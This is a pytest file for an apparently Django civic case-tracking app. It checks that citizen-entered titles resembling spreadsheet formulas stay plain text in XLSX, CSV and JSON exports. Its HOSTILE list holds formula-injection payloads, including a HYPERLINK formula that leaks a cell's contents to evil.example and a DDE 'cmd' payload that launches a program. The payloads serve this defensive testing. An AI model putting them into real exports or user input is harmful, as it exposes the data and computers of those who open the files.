"""Issue 12 item 9: a citizen's text such as =HYPERLINK(…) is text in every export, never a formula."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from civicdesk.answers.models import Answer
from tests.factories import CaseFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1 ngập nước",
    "-2+3 cống hỏng",
    "\t=1+1 đèn đường",
    "\r=1+1 rác thải",
]


def _formulas_in(xlsx: bytes) -> list[str]:
    """The <f> elements of every sheet: what Excel would compute."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


@pytest.fixture
def hostile_cases(category, agency):
    return [CaseFactory(category=category, agency=agency, title=title) for title in HOSTILE]


def test_the_dashboard_case_list_export_keeps_titles_as_text(client, supervisor, hostile_cases):
    client.force_login(supervisor)
    response = client.get(reverse("dashboard:case_list"), {"format": "xlsx"})
    assert response.status_code == 200
    body = response.getvalue()  # streamed: read once
    assert _formulas_in(body) == []
    sheet = load_workbook(io.BytesIO(body)).active
    titles = {sheet.cell(row=row, column=2).value: sheet.cell(row=row, column=2)
              for row in range(4, sheet.max_row + 1)}
    for title in HOSTILE:
        # as typed, no apostrophe added (some XML parsers read a CR back as LF)
        cell = titles.get(title) or titles[title.replace("\r", "\n")]
        assert cell.data_type == "s"
        assert cell.quotePrefix  # stays text even when someone edits the cell in Excel


def _publish(cases, officer, lead):
    for case in cases:
        case.is_public = True
        case.status = "answered"
        case.answered_at = timezone.now()
        case.save()
        Answer.objects.create(case=case, author=officer, body="=1+1 đã xử lý", public_body="=1+1 đã xử lý",
                              state="approved", approved_by=lead, approved_at=timezone.now())


def _assert_escaped(rows):
    titles = {row["title"] for row in rows}
    for title in HOSTILE:
        assert "'" + title in titles
    assert {row["answer"] for row in rows} == {"'=1+1 đã xử lý"}
    for row in rows:
        assert not row["title"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_open_data_csv_endpoint_escapes_formula_text(client, hostile_cases, officer, lead):
    _publish(hostile_cases, officer, lead)
    text = client.get("/api/v1/open-data/cases.csv").getvalue().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE)
    _assert_escaped(rows)
    assert all(float(row["lat"]) > 0 for row in rows if row["lat"])  # numbers are not touched


def test_the_open_data_file_escapes_formula_text(tmp_path, hostile_cases, officer, lead):
    _publish(hostile_cases, officer, lead)
    call_command("export_open_data", "--out", str(tmp_path), stdout=io.StringIO())
    with (tmp_path / "cases.csv").open(encoding="utf-8", newline="") as handle:
        _assert_escaped(list(csv.DictReader(handle)))


def test_the_open_data_json_keeps_the_text_as_typed(client, hostile_cases, officer, lead):
    _publish(hostile_cases, officer, lead)
    data = client.get("/api/v1/open-data/cases.json").json()
    assert {c["title"] for c in data["cases"]} >= {HOSTILE[0]}
